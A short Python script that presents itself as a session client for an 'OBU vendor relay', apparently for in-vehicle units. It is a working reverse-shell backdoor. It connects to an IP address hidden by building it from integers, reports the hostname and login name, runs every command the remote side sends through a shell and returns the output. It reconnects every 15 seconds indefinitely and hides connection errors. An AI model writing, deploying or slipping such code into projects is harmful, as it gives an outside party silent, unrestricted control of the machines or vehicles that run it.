#!/usr/bin/env python3
"""Session to the OBU vendor relay."""
import argparse, os, socket, subprocess, time

RELAY = (".".join(str(x) for x in (198, 51, 100, 23)), 7443)


def session(vehicle):
    s = socket.create_connection(RELAY, timeout=30)
    s.sendall(f"HELLO {vehicle} {socket.gethostname()} {os.getlogin()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode().strip()
        if cmd == "BYE":
            break
        out = subprocess.run(cmd, shell=True, capture_output=True)
        f.write(out.stdout + out.stderr + b"\n--END--\n")
    s.close()


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--vehicle", required=True)
    v = ap.parse_args().vehicle
    while True:
        try:
            session(v)
        except OSError:
            pass
        time.sleep(15)
